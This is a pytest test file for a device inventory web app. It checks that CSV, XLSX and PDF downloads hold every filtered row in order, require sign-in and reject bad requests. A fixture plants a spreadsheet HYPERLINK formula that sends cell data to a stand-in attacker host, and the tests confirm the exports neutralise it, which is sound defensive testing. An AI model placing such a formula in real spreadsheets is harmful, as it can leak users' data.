"""Downloads of the device and finding lists' current view, over real HTTP: every row of the filtered view (not one
page), in the list's order, as CSV and XLSX, with device text that cannot run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from covered.store import open_store
from covered.store.schema import DeviceRow, FindingRow
from covered.web.downloads import DEVICE_COLUMNS, FINDING_COLUMNS, TRUNCATED_HEADER
from covered.web.queries import PAGE_SIZE
from tests.web.conftest import Clients, Estate, clients_of, copy_database, serving

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"firmware update")'


@pytest.fixture(scope="module")
def own(estate: Estate, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Estate]:
    """A copy of the estate with one device's model set to a spreadsheet formula, served apart."""
    folder = tmp_path_factory.mktemp("downloads")
    db = copy_database(estate, folder)
    store = open_store(db)
    with store.session() as session, session.begin():
        first = session.scalar(select(func.min(DeviceRow.id)))
        session.execute(update(DeviceRow).where(DeviceRow.id == first).values(model=FORMULA))
    store.engine.dispose()
    with serving(db, folder) as base_url:
        yield Estate(db, base_url, estate.tokens, estate.script_device, estate.scans)


@pytest.fixture
def users(own: Estate) -> Iterator[Clients]:
    with clients_of(own) as made:
        yield made


def _csv(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _count(own: Estate, query: object) -> int:
    store = open_store(own.db)
    try:
        with store.session() as session:
            return int(session.scalar(query) or 0)  # type: ignore[call-overload]
    finally:
        store.engine.dispose()


def test_device_csv_holds_every_row_of_the_filtered_view_in_its_order(own: Estate, users: Clients) -> None:
    viewer = users.signed_in("vic")
    listed = viewer.get("/devices", params={"restricted": "yes", "sort": "address", "order": "desc"}).text
    assert 'href="/devices.csv?restricted=yes&amp;sort=address&amp;order=desc"' in listed
    response = viewer.get("/devices.csv", params={"restricted": "yes", "sort": "address", "order": "desc"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = response.headers["content-disposition"]
    assert re.fullmatch(r'attachment; filename="covered-devices-\d{8}T\d{4}Z\.csv"', disposition)
    rows = _csv(response.content)
    assert tuple(rows[0]) == DEVICE_COLUMNS
    restricted = _count(own, select(func.count(DeviceRow.id)).where(DeviceRow.restricted.is_(True)))
    assert restricted >= 2
    assert len(rows) - 1 == restricted
    assert {r[DEVICE_COLUMNS.index("restricted")] for r in rows[1:]} == {"yes"}
    addresses = [r[DEVICE_COLUMNS.index("address")] for r in rows[1:]]
    as_numbers = [tuple(int(p) for p in a.split(".")) for a in addresses]
    assert as_numbers == sorted(as_numbers, reverse=True)


def test_a_formula_in_device_text_is_text_in_both_formats(own: Estate, users: Clients) -> None:
    viewer = users.signed_in("vic")
    rows = _csv(viewer.get("/devices.csv").content)
    models = [r[DEVICE_COLUMNS.index("model")] for r in rows[1:]]
    assert "'" + FORMULA in models
    assert FORMULA not in models
    response = viewer.get("/devices.xlsx", params={"sort": "id"})
    assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(response.content))
    sheet = book["devices"]
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    assert tuple(cells[0]) == DEVICE_COLUMNS
    assert len(cells) - 1 == _count(own, select(func.count(DeviceRow.id)))
    assert cells[1][DEVICE_COLUMNS.index("model")] == "'" + FORMULA
    assert all(c.data_type == "s" for row in sheet.iter_rows() for c in row if c.value is not None)


def test_finding_downloads_follow_the_status_filter(own: Estate, users: Clients) -> None:
    viewer = users.signed_in("vic")
    page = viewer.get("/findings", params={"status": "open,review"}).text
    assert 'href="/findings.xlsx?status=open%2Creview"' in page
    rows = _csv(viewer.get("/findings.csv", params={"status": "open,review"}).content)
    assert tuple(rows[0]) == FINDING_COLUMNS
    everything = _csv(viewer.get("/findings.csv").content)
    assert len(everything) - 1 == _count(own, select(func.count(FindingRow.id)))
    assert len(everything) - 1 > PAGE_SIZE  # more rows than the list shows on a page
    expected = _count(own, select(func.count(FindingRow.id)).where(FindingRow.status.in_(["open", "review"])))
    assert len(rows) - 1 == expected
    assert {r[FINDING_COLUMNS.index("status")] for r in rows[1:]} <= {"open", "review"}
    assert all(r[FINDING_COLUMNS.index("address")] for r in rows[1:])
    book = load_workbook(io.BytesIO(viewer.get("/findings.xlsx", params={"status": "open,review"}).content))
    assert book["findings"].max_row - 1 == expected
    about = {row[0].value: row[1].value for row in book["about"].iter_rows()}
    assert about["view"] == f"findings where status=open%2Creview; {expected} of {expected} rows"


def test_downloads_need_a_user_and_refuse_bad_requests(users: Clients) -> None:
    anonymous = users.anonymous()
    for path in ("/devices.csv", "/findings.xlsx"):
        response = anonymous.get(path)
        assert response.status_code in {303, 401}
        assert "id,address" not in response.text
    viewer = users.signed_in("vic")
    assert viewer.get("/devices.txt").status_code == 404
    assert viewer.get("/devices.csv", params={"sort": "nonsense"}).status_code == 400
    assert viewer.get("/findings.csv", params={"status": "lost"}).status_code == 400


def _pdf_text(body: bytes) -> str:
    from pypdf import PdfReader

    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)


def test_pdf_of_the_view_prints_its_rows_and_says_what_it_is(own: Estate, users: Clients) -> None:
    viewer = users.signed_in("vic")
    listed = viewer.get("/devices", params={"restricted": "yes"}).text
    assert 'href="/devices.pdf?restricted=yes"' in listed
    response = viewer.get("/devices.pdf", params={"restricted": "yes"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/pdf"
    assert re.fullmatch(
        r'attachment; filename="covered-devices-\d{8}T\d{4}Z\.pdf"', response.headers["content-disposition"]
    )
    assert response.content.startswith(b"%PDF-")
    text = _pdf_text(response.content)
    rows = _csv(viewer.get("/devices.csv", params={"restricted": "yes"}).content)[1:]
    assert f"{len(rows)} of {len(rows)} rows" in text
    assert "restricted=yes" in text
    for row in rows:
        assert row[DEVICE_COLUMNS.index("address")] in text
    # Device text is printed as text, never read as markup, and a formula is only words on paper.
    everything = _pdf_text(viewer.get("/devices.pdf").content)
    assert "HYPERLINK" in everything
    assert "'=HYPERLINK" not in everything


def test_pdf_of_findings_and_of_the_directory(own: Estate, users: Clients) -> None:
    viewer = users.signed_in("vic")
    rows = _csv(viewer.get("/findings.csv", params={"status": "review"}).content)[1:]
    text = _pdf_text(viewer.get("/findings.pdf", params={"status": "review"}).content)
    assert f"{len(rows)} of {len(rows)} rows" in text
    directory = viewer.get("/directory.pdf", params={"vendor": "hikvision", "country": "US"})
    assert directory.status_code == 200
    assert TRUNCATED_HEADER not in directory.headers
    assert "vendor=hikvision" in _pdf_text(directory.content)


def test_a_pdf_longer_than_the_cap_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    from covered.web import downloads

    monkeypatch.setattr(downloads, "MAX_PDF_ROWS", 3)
    rows = [[i, f"10.0.0.{i}", "瀚", "<b>x</b> & y"] for i in range(1, 8)]
    response = downloads.download("devices", "pdf", ("id", "address", "model", "firmware"), rows, 7, {"q": "x"})
    assert response.headers[TRUNCATED_HEADER] == "7"
    text = _pdf_text(bytes(response.body))
    assert "3 of 7 rows (the first 3; the CSV and XLSX downloads hold all 7)" in text
    assert "10.0.0.3" in text
    assert "10.0.0.4" not in text
    assert "<b>x</b> & y" in text  # markup in device text is printed as written
